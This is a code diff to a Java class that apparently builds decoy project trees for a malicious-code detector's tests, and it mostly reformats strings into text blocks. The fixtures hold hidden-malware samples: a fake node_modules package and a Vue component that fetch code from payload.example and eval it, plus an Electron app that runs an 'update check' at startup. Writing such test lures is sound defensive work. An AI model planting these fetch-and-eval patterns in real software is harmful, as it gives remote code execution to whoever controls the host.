@@ -2,6 +2,7 @@ package dev.countersign.lure.project;
 
 import dev.countersign.lure.content.Tree;
 import dev.countersign.model.verdict.Outcome;
+import java.nio.charset.StandardCharsets;
 import java.util.Base64;
 import java.util.List;
 
@@ -11,7 +12,8 @@ import java.util.List;
  */
 final class NodeLures {
   private static final String ADDRESS =
-      Base64.getEncoder().encodeToString("https://api.payload.example/v1/token".getBytes());
+      Base64.getEncoder()
+          .encodeToString("https://api.payload.example/v1/token".getBytes(StandardCharsets.UTF_8));
   private static final String PACKAGE =
       """
       {
@@ -271,8 +273,11 @@ final class NodeLures {
                  "devDependencies": {"electron": "^28.0.0"}}
                 """,
                 "src/main.js",
-                "const { app } = require('electron');\nconst { UpdateCheckSync } = require('./update');\n"
-                    + "app.whenReady().then(() => UpdateCheckSync());\n",
+                """
+                const { app } = require('electron');
+                const { UpdateCheckSync } = require('./update');
+                app.whenReady().then(() => UpdateCheckSync());
+                """,
                 "src/update.js",
                 """
                 const crypto = require('crypto');
@@ -446,8 +451,11 @@ final class NodeLures {
                 "node_modules/chart-kit/package.json",
                 "{\"name\": \"chart-kit\", \"main\": \"index.js\"}",
                 "node_modules/chart-kit/index.js",
-                "const a = require('axios');\nexports.draw = () => {};\n"
-                    + "a.get('https://payload.example/k').then((r) => eval(r.data));\n")),
+                """
+                const a = require('axios');
+                exports.draw = () => {};
+                a.get('https://payload.example/k').then((r) => eval(r.data));
+                """)),
         deny(
             "a component that hides it",
             "src/App.vue",
@@ -455,12 +463,17 @@ final class NodeLures {
                 "package.json",
                 PACKAGE,
                 "src/App.vue",
-                "<template><div/></template>\n<script>\nexport default {};\n"
-                    + "fetch('https://payload.example/v').then(r => r.text()).then(t => eval(t));\n</script>\n")));
+                """
+                <template><div/></template>
+                <script>
+                export default {};
+                fetch('https://payload.example/v').then(r => r.text()).then(t => eval(t));
+                </script>
+                """)));
   }
 
   private static String encoded(String text) {
-    return Base64.getEncoder().encodeToString(text.getBytes());
+    return Base64.getEncoder().encodeToString(text.getBytes(StandardCharsets.UTF_8));
   }
 
   private static Lure deny(String name, String where, Tree tree) {
